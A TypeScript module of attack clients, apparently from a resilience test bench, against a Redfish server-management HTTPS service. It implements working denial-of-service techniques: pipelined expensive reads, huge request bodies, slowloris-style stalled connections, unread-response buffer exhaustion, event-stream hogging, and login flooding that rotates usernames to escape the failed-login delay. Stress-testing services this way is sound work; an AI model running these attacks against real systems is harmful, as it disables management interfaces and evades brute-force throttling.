/**
 * Attacks. Each attack lasts for the lifetime of the process: it keeps the service busy, or occupies its connections,
 * and reconnects after every disconnect. One client performs each attack, and a bench runs four such clients together.
 */
import { connect as connectPlain, type Socket } from 'node:net';
import { connect } from 'node:tls';

export const attackKinds = ['reads', 'bodies', 'silence', 'logins', 'unread', 'streams'] as const;
export type AttackKind = (typeof attackKinds)[number];

export interface Attacker {
  readonly kind: AttackKind;
  /** Address of the service. */
  readonly host: string;
  readonly port: number;
  /** Loopback address of the attacker. */
  readonly from: string;
  /** Token of a read-only session; unused by attacks without authentication. */
  readonly token: string;
}

/** Number of responses by status. */
export type Answers = Map<string, number>;

/** Size of pipelined requests. Unit: bytes. */
const pipelineBytes = 60_000;
const bodyBytes = 1_000_000;
/** Number of connections of an attacker: a quarter of the 1,024 connections that the server accepts. */
const silentConnections = 256;
const unreadConnections = 64;
/** Number of requests on each unread connection. Their responses exceed what the system buffers for a reader. */
const unreadAnswers = 16;
const streamsOpen = 64;
const loginsAtOnce = 16;
/** Delay before a reconnect. Unit: ms. */
const returnMs = 50;
/** Interval between the bytes of a slow request head. Unit: ms. */
const dripMs = 1_000;

/** URI of the most expensive read: all metric reports, expanded. Each request adds a different `$skip`. */
const expandedUri = '/redfish/v1/TelemetryService/MetricReports/?$expand=.';

export function attack(attacker: Attacker, answers: Answers): void {
  const { kind } = attacker;
  if (kind === 'reads') keepReading(attacker, answers);
  else if (kind === 'bodies')
    keepSending(attacker, answers, { head: patchHead(attacker), body: emptyObjects });
  else if (kind === 'silence') times(silentConnections, (index) => keepSilent(attacker, index));
  else if (kind === 'logins') times(loginsAtOnce, (index) => keepGuessing(attacker, answers, index));
  else if (kind === 'unread') times(unreadConnections, () => keepNotReading(attacker));
  else times(streamsOpen, () => keepStream(attacker, answers));
}

function times(count: number, start: (index: number) => void): void {
  for (let index = 0; index < count; index++) start(index);
}

/** Opens a connection, and opens a new one after each close. */
function keepConnected(attacker: Attacker, use: (socket: Socket) => void): void {
  const socket = connect({ socket: connectFrom(attacker), rejectUnauthorized: false });
  socket.on('error', () => {});
  socket.on('secureConnect', () => use(socket));
  socket.on('close', () => setTimeout(() => keepConnected(attacker, use), returnMs));
}

function connectFrom({ host, port, from }: Attacker): Socket {
  return connectPlain({ host, port, localAddress: from }).on('error', () => {});
}

function expandedReads({ token }: Attacker, countMax: number = Number.POSITIVE_INFINITY): string {
  const read = (skip: number) =>
    `GET ${expandedUri}&$skip=${skip} HTTP/1.1\r\nHost: x\r\nX-Auth-Token: ${token}\r\n\r\n`;
  const count = Math.min(countMax, Math.floor(pipelineBytes / read(0).length));
  return Array.from({ length: count }, (_, index) => read(index % 10)).join('');
}

/**
 * Sends expanded reads in a pipeline and reads all responses. It sends the next batch before the last response arrives.
 */
function keepReading(attacker: Attacker, answers: Answers): void {
  const reads = expandedReads(attacker);
  const count = reads.split('GET ').length - 1;
  keepConnected(attacker, (socket) => {
    let left = count;
    socket.on('data', (data: Buffer) => {
      left -= noteAnswers(data, answers);
      if (left > 1) return;
      left += count;
      socket.write(reads);
    });
    socket.write(reads);
  });
}

interface Sent {
  readonly head: string;
  readonly body: Buffer;
}

const emptyObjects = Buffer.from(`[${'{},'.repeat(bodyBytes / 3)}{}]`);

function patchHead({ token }: Attacker): string {
  return [
    'PATCH /redfish/v1/Systems/1/ HTTP/1.1',
    'Host: x',
    `X-Auth-Token: ${token}`,
    'Content-Type: application/json',
    `Content-Length: ${emptyObjects.length}`,
    '\r\n',
  ].join('\r\n');
}

/** Sends one request after another, each after the previous response. */
function keepSending(attacker: Attacker, answers: Answers, { head, body }: Sent): void {
  keepConnected(attacker, (socket) => {
    const send = () => {
      socket.write(head);
      socket.write(body);
    };
    socket.on('data', (data: Buffer) => {
      if (noteAnswers(data, answers) > 0) send();
    });
    send();
  });
}

/** Keeps a connection open without TLS data, without a request, or with a request that never ends. */
function keepSilent(attacker: Attacker, index: number): void {
  if (index % 2 === 0) {
    keepMute(attacker);
    return;
  }
  keepConnected(attacker, (socket) => {
    socket.resume();
    if (index % 4 === 1) return;
    socket.write('GET /redfish/v1/ HTTP/1.1\r\nHost: x\r\nX-Slow: ');
    const drip = setInterval(() => socket.write('x'), dripMs);
    socket.on('close', () => clearInterval(drip));
  });
}

function keepMute(attacker: Attacker): void {
  connectFrom(attacker).on('close', () => setTimeout(() => keepMute(attacker), returnMs));
}

/** Sends login attempts with a different user name each, so that the delay of failed logins does not apply. */
function keepGuessing(attacker: Attacker, answers: Answers, index: number): void {
  let guesses = 0;
  keepConnected(attacker, (socket) => {
    const guess = () => {
      const body = JSON.stringify({ UserName: `guess-${index}-${guesses++}`, Password: 'wrong-1_horse.' });
      socket.write(
        [
          'POST /redfish/v1/SessionService/Sessions/ HTTP/1.1',
          'Host: x',
          'Content-Type: application/json',
          `Content-Length: ${body.length}`,
          `\r\n${body}`,
        ].join('\r\n'),
      );
    };
    socket.on('data', (data: Buffer) => {
      if (noteAnswers(data, answers) > 0) guess();
    });
    guess();
  });
}

function keepNotReading(attacker: Attacker): void {
  const reads = expandedReads(attacker, unreadAnswers);
  keepConnected(attacker, (socket) => {
    socket.pause();
    socket.write(reads);
  });
}

function keepStream(attacker: Attacker, answers: Answers): void {
  keepConnected(attacker, (socket) => {
    socket.on('data', (data: Buffer) => noteAnswers(data, answers));
    socket.write(
      `GET /redfish/v1/EventService/SSE/ HTTP/1.1\r\nHost: x\r\nX-Auth-Token: ${attacker.token}\r\n\r\n`,
    );
  });
}

const statusLine = /HTTP\/1\.1 (\d{3})/g;

/** Counts the starts of responses in the received data. A status line that is split between two chunks is missed. */
function noteAnswers(data: Buffer, answers: Answers): number {
  let begun = 0;
  for (const [, status = ''] of data.toString('latin1').matchAll(statusLine)) {
    answers.set(status, (answers.get(status) ?? 0) + 1);
    begun += 1;
  }
  return begun;
}
